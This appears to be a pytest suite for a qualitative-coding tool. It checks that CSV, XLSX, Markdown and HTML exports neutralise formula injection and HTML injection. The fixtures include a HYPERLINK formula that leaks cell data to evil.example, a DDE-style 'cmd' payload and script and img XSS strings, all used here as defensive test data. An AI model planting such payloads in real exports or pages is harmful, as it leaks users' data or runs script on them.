"""Exports keep user text inert: no CSV cell a spreadsheet would run as a formula, no XLSX
formula cell, no raw HTML in Markdown or HTML — for every exporter, through the real
commands, on a project whose names, passages, memos, cases, attribute values and
summaries are hostile. ``--raw-cells`` gives the stored text back exactly."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from qualcode.cli import cli
from qualcode.exporters.safe_cells import (
    FORMULA_STARTS,
    csv_cell,
    looks_like_formula,
    markdown_text,
    raw_cells,
    xlsx_row,
)
from qualcode.exporters.tables import render_csv
from tests.conftest import Cli, write

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
SCRIPT = "<script>alert(1)</script>"
IMAGE_CODE = "<img src=x onerror=alert(2)> & co"
TRANSCRIPT = f"""Interviewer: {LINK}

Anna: +SUM(1+1) is what she said.

Interviewer: -2+3 was the score.

Anna: @SUM(A1:A2) and then more.

Interviewer: {SCRIPT} and <b>bold</b> &amp; more.
"""
CODEBOOK = """name: Hostile
codes:
  - name: '=HYPERLINK("evil.example","code")'
  - name: '+plus'
  - name: '-minus'
  - name: '@at'
  - name: '<img src=x onerror=alert(2)> & co'
"""
CASES = "case,transcript,speaker,group\n=Case(1),hostile,,@home\n"
# (coder, code, quote) codings: anna codes every line, bo two of them (for agreement)
CODINGS = [
    ("anna", '=HYPERLINK("evil.example","code")', LINK),
    ("anna", "+plus", "+SUM(1+1) is what she said."),
    ("anna", "-minus", "-2+3 was the score."),
    ("anna", "@at", "@SUM(A1:A2) and then more."),
    ("anna", IMAGE_CODE, SCRIPT),
    ("bo", "+plus", "+SUM(1+1) is what she said."),
    ("bo", "@at", "-2+3 was the score."),
]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("hostile")
    path = folder / "hostile.qualcode"
    transcript = write(folder / "hostile.txt", TRANSCRIPT)
    codebook = write(folder / "codes.yaml", CODEBOOK)
    cases = write(folder / "cases.csv", CASES)
    run = Cli()
    steps: list[list[str | Path]] = [
        ["init", path],
        ["import", path, transcript],
        ["codebook", path, "import", codebook],
        ["cases", path, "import", cases],
    ]
    for args in steps:
        run(*args)
    for coder, code, quote in CODINGS:
        # after "--", text starting with "-" is an argument, not an option
        run(
            "code", "--coder", coder, f"--quote={quote}", "--memo==2+2", "--", path, "hostile", code
        )
    run("memo", path, "\t=1+1 a memo starting with a tab")
    run("memo", "--code", "@at", "--", path, "-cmd|' /C calc")
    run("summary", path, "=Case(1)", "@at", "=SUM(9)", "--author", "anna")
    for coder in ("anna", "bo"):
        run("done", path, "hostile", "--coder", coder)
    return path


Args = Callable[[Path, Path], list[str | Path]]
AGREE = ["--coders", "anna", "bo"]
CSV_EXPORTS: list[tuple[str, Args]] = [
    ("matrix-wide", lambda p, o: ["matrix", p, "--cols", "codes", "-o", o]),
    ("matrix-by-attribute", lambda p, o: ["matrix", p, "--rows", "attribute:group", "-o", o]),
    ("matrix-long", lambda p, o: ["matrix", p, "--measure", "all", "--long", "-o", o]),
    ("cooccurrence", lambda p, o: ["cooccurrence", p, "--cols", "codes", "-o", o]),
    ("codings", lambda p, o: ["codings", p, "--format", "csv", "-o", o]),
    ("memos", lambda p, o: ["memos", p, "--all", "--format", "csv", "-o", o]),
    ("agreement", lambda p, o: ["agreement", p, *AGREE, "--format", "csv", "-o", o]),
]
STDOUT_CSV: list[tuple[str, list[str]]] = [
    ("transcripts", ["transcripts", "{p}", "--format", "csv"]),
    ("disagreements", ["disagreements", "{p}", *AGREE, "--all", "--format", "csv"]),
]
XLSX_EXPORTS: list[tuple[str, Args]] = [
    ("matrix", lambda p, o: ["matrix", p, "--measure", "all", "--cols", "codes", "-o", o]),
    ("cooccurrence", lambda p, o: ["cooccurrence", p, "--cols", "codes", "-o", o]),
    ("agreement", lambda p, o: ["agreement", p, *AGREE, "--format", "xlsx", "-o", o]),
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_safe_against_raw(safe: str, raw: str) -> None:
    """Every safe cell is inert; it equals the raw cell or is it with a leading quote,
    exactly where the raw one looks like a formula (so numbers stay numbers); and at
    least one cell of this export needed the quote (the test is not vacuous)."""
    safe_cells, raw_cells_ = cells(safe), cells(raw)
    assert len(safe_cells) == len(raw_cells_)
    quoted = 0
    for kept, stored in zip(safe_cells, raw_cells_, strict=True):
        assert not looks_like_formula(kept), kept
        if looks_like_formula(stored):
            assert kept == "'" + stored
            quoted += 1
        else:
            assert kept == stored
    assert quoted > 0


@pytest.mark.parametrize("args", [e[1] for e in CSV_EXPORTS], ids=[e[0] for e in CSV_EXPORTS])
def test_csv_exports_quote_formulas(hostile: Path, tmp_path: Path, run: Cli, args: Args) -> None:
    safe, raw = tmp_path / "safe.csv", tmp_path / "raw.csv"
    run(*args(hostile, safe))
    run(*args(hostile, raw), "--raw-cells")
    assert_safe_against_raw(safe.read_text(encoding="utf-8"), raw.read_text(encoding="utf-8"))


@pytest.mark.parametrize("args", [e[1] for e in STDOUT_CSV], ids=[e[0] for e in STDOUT_CSV])
def test_csv_listings_quote_formulas(hostile: Path, run: Cli, args: list[str]) -> None:
    command = [a.replace("{p}", str(hostile)) for a in args]
    assert_safe_against_raw(run(*command).stdout, run(*command, "--raw-cells").stdout)


@pytest.mark.parametrize("args", [e[1] for e in XLSX_EXPORTS], ids=[e[0] for e in XLSX_EXPORTS])
def test_xlsx_exports_hold_no_formula(hostile: Path, tmp_path: Path, run: Cli, args: Args) -> None:
    safe, raw = tmp_path / "safe.xlsx", tmp_path / "raw.xlsx"
    run(*args(hostile, safe))
    run(*args(hostile, raw), "--raw-cells")
    workbook = load_workbook(safe)
    formula_like = numbers = 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and looks_like_formula(cell.value):
                    assert cell.data_type == "s"
                    assert cell.quotePrefix  # stays text when edited in a spreadsheet
                    formula_like += 1
                numbers += isinstance(cell.value, int | float)
    assert formula_like > 0  # the hostile names are there, as text
    assert numbers > 0  # and the counts are numbers, not text

    def values(path: Path) -> list[object]:
        book = load_workbook(path)
        return [c.value for s in book.worksheets for r in s.iter_rows() for c in r]

    assert values(safe) == values(raw)  # XLSX text is never changed, with or without


def test_a_hyperlink_name_is_text_in_the_matrix_workbook(
    hostile: Path, tmp_path: Path, run: Cli
) -> None:
    out = tmp_path / "matrix.xlsx"
    run("matrix", hostile, "--cols", "codes", "--format", "xlsx", "-o", out)
    header = list(load_workbook(out)["references"][1])
    link = next(c for c in header if str(c.value).startswith("=HYPERLINK"))
    assert link.value == '=HYPERLINK("evil.example","code")'
    assert link.data_type == "s"


MARKDOWN_EXPORTS: list[tuple[str, list[str]]] = [
    ("matrix", ["matrix", "{p}", "--measure", "all", "--cols", "codes", "--format", "md"]),
    ("cooccurrence", ["cooccurrence", "{p}", "--cols", "codes", "--format", "md"]),
    ("report", ["report", "{p}", "--code", IMAGE_CODE, "--format", "md"]),
]
HTML_EXPORTS: list[tuple[str, list[str]]] = [
    ("matrix", ["matrix", "{p}", "--measure", "all", "--cols", "codes", "--format", "html"]),
    ("cooccurrence", ["cooccurrence", "{p}", "--cols", "codes", "--format", "html"]),
    ("report", ["report", "{p}", "--code", IMAGE_CODE, "--format", "html"]),
    ("agreement", ["agreement", "{p}", *AGREE, "--format", "html"]),
]


def _no_raw_html(text: str) -> None:
    for raw in ("<script", "<img", "<b>bold"):
        assert raw not in text
    assert "&lt;img src=x onerror=alert(2)&gt;" in text


@pytest.mark.parametrize(
    "args", [e[1] for e in MARKDOWN_EXPORTS], ids=[e[0] for e in MARKDOWN_EXPORTS]
)
def test_markdown_exports_escape_html(hostile: Path, run: Cli, args: list[str]) -> None:
    from markdown_it import MarkdownIt

    text = run(*[a.replace("{p}", str(hostile)) for a in args]).stdout
    _no_raw_html(text)
    rendered = MarkdownIt("commonmark").enable("table").render(text)
    assert "<script" not in rendered
    assert "<img" not in rendered
    if "report" in args or "--measure" in args:  # the passages are in these
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text


@pytest.mark.parametrize("args", [e[1] for e in HTML_EXPORTS], ids=[e[0] for e in HTML_EXPORTS])
def test_html_exports_escape_html(hostile: Path, run: Cli, args: list[str]) -> None:
    text = run(*[a.replace("{p}", str(hostile)) for a in args]).stdout
    _no_raw_html(text)


# -- the two functions themselves, over any text ---------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),  # a formula
        ("+SUM(1)", "'+SUM(1)"),  # + starts a formula too
        ("-2+3", "'-2+3"),  # and -
        ("@SUM(A1)", "'@SUM(A1)"),  # and @ (Lotus syntax)
        ("\t=1", "'\t=1"),  # a tab in front
        ("\r=1", "'\r=1"),  # a carriage return in front
        ("-3", "-3"),  # a plain number stays a number
        ("+4.5e3", "+4.5e3"),  # in any notation
        ("a=1", "a=1"),  # = later in the text is harmless
        (-0.25, -0.25),  # numbers we compute stay numbers
        (None, ""),  # an empty cell
    ],
    ids=["eq", "plus", "minus", "at", "tab", "cr", "number", "exp", "later", "float", "none"],
)
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected
    with raw_cells():
        assert csv_cell(value) == ("" if value is None else value)


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=5), st.sampled_from(FORMULA_STARTS))
def test_every_csv_cell_is_inert(texts: list[str], start: str) -> None:
    """Any text, and any text behind a formula start: read back with the csv module,
    no cell is a formula; with raw cells every cell is exactly the text (so the CSV
    stays well-formed for commas, quotes and line breaks of every kind)."""
    row = [*texts, start + texts[0]]

    def read_back() -> list[str]:
        lines = list(csv.reader(io.StringIO(render_csv(["h"] * len(row), [row]), newline="")))
        assert lines[0] == ["h"] * len(row)
        return lines[1]

    assert not any(looks_like_formula(cell) for cell in read_back())
    with raw_cells():
        assert read_back() == row


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(min_size=1), min_size=1, max_size=6))
def test_every_xlsx_text_cell_is_text(texts: list[str]) -> None:
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    xlsx_row(book.create_sheet("s"), ["=" + t for t in texts] + texts + [1, 2.5])
    buffer = io.BytesIO()
    book.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue()))["s"].iter_rows())
    assert all(cell.data_type == "s" for cell in row[:-2])
    assert [cell.value for cell in row[-2:]] == [1, 2.5]


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text())
def test_markdown_text_has_no_tag_and_no_line_break(text: str) -> None:
    escaped = markdown_text(text)
    assert "<" not in escaped
    assert ">" not in escaped
    assert len(escaped.splitlines()) <= 1


# -- random user text, through the real commands ------------------------------------------


@pytest.fixture(scope="module")
def blank(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with one coded passage, whose names and memos the properties change."""
    folder = tmp_path_factory.mktemp("blank")
    path = folder / "blank.qualcode"
    transcript = write(folder / "t.txt", "Anna: one passage here.\n")
    codebook = write(folder / "c.yaml", "codes:\n  - name: theme\n")
    steps: list[list[str | Path]] = [
        ["init", path],
        ["import", path, transcript],
        ["codebook", path, "import", codebook],
        ["code", path, "t", "theme", "--coder", "anna", "--span", "0:10"],
    ]
    for args in steps:
        Cli()(*args)
    return path


def _try(*args: str | Path) -> bool:
    """Run a command that may refuse its input: True if it did it; a refusal must be
    one line, never a traceback."""
    result = CliRunner().invoke(cli, [str(a) for a in args], catch_exceptions=False)
    if result.exit_code:
        assert len(result.stderr.strip().splitlines()) == 1, result.stderr
        return False
    return True


def _csv_is_inert(text: str) -> None:
    assert not any(looks_like_formula(cell) for cell in cells(text))


@settings(
    max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(start=st.sampled_from(("", *FORMULA_STARTS)), text=st.text(max_size=30))
def test_any_memo_exports_inert(blank: Path, start: str, text: str) -> None:
    assume(_try("memo", "--", blank, start + text))
    _csv_is_inert(Cli()("memos", blank, "--format", "csv").stdout)


NAME_TEXT = st.text(
    st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp"), blacklist_characters="/"),
    min_size=1,
    max_size=20,
)


@settings(
    max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(start=st.sampled_from(("", "=", "+", "-", "@")), name=NAME_TEXT)
def test_any_code_name_exports_inert(
    blank: Path, tmp_path_factory: pytest.TempPathFactory, start: str, name: str
) -> None:
    run = Cli()
    old = json.loads(run("codings", blank, "--format", "json").stdout)[0]["code"]
    renamed = _try("codebook", blank, "rename", "--coder", "anna", "--", old, start + name)
    assume(renamed)
    _csv_is_inert(run("matrix", blank, "--cols", "codes", "--format", "csv").stdout)
    out = tmp_path_factory.mktemp("names") / "m.xlsx"
    run("matrix", blank, "--cols", "codes", "-o", out)
    for sheet in load_workbook(out).worksheets:
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


# -- a real spreadsheet program as the judge (where LibreOffice is installed) -------------

SOFFICE = shutil.which("soffice")
CSV_FILTER = "44,34,76,1"  # comma, double quote, UTF-8, from line 1


def _through_libreoffice(source: Path, profile: Path) -> list[str]:
    """The cells LibreOffice shows for ``source`` (formulas evaluated), via its CSV."""
    out = source.parent / f"lo-{source.stem}"
    command = [
        str(SOFFICE),
        f"-env:UserInstallation=file://{profile}",
        "--headless",
        "--convert-to",
        f"csv:Text - txt - csv (StarCalc):{CSV_FILTER},,0,false,true",
        "--outdir",
        str(out),
    ]
    if source.suffix == ".csv":
        command.insert(3, f"--infilter=CSV:{CSV_FILTER}")
    subprocess.run([*command, str(source)], capture_output=True, timeout=180, check=True)
    return cells((out / f"{source.stem}.csv").read_text(encoding="utf-8"))


@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed here")
def test_libreoffice_runs_no_formula(hostile: Path, tmp_path: Path, run: Cli) -> None:
    profile = tmp_path / "profile"
    run("codings", hostile, "--format", "csv", "-o", tmp_path / "safe.csv")
    run("codings", hostile, "--format", "csv", "-o", tmp_path / "raw.csv", "--raw-cells")
    run("matrix", hostile, "--cols", "codes", "--rows", "transcripts", "-o", tmp_path / "m.xlsx")
    raw = _through_libreoffice(tmp_path / "raw.csv", profile)
    assert "click me" in raw  # the judge does run formulas: the raw cell became a link
    safe = _through_libreoffice(tmp_path / "safe.csv", profile)
    assert "click me" not in safe
    assert "'" + LINK in safe
    assert safe.count("'=2+2") == len(CODINGS)  # every memo =2+2 stayed text
    workbook = _through_libreoffice(tmp_path / "m.xlsx", profile)
    assert '=HYPERLINK("evil.example","code")' in workbook
